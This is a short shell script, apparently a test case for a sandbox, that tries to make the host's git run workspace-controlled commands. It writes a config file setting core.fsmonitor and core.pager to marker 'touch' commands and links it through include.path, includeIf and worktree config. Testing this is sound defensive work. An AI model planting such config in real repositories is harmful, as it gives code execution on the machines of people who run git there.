#!/bin/sh
# tries: to have the host read a configuration of its own through include.path, in the workspace and beside it
# bare: blocked
printf '[core]\n\tfsmonitor = touch %s/include\n\tpager = touch %s/pager\n' "$LOOT" "$LOOT" > evil.config
git config include.path "$PWD/evil.config"
git config includeIf.gitdir:/.path "$PWD/evil.config"
git config extensions.worktreeConfig true
cp evil.config .git/config.worktree
echo work > work
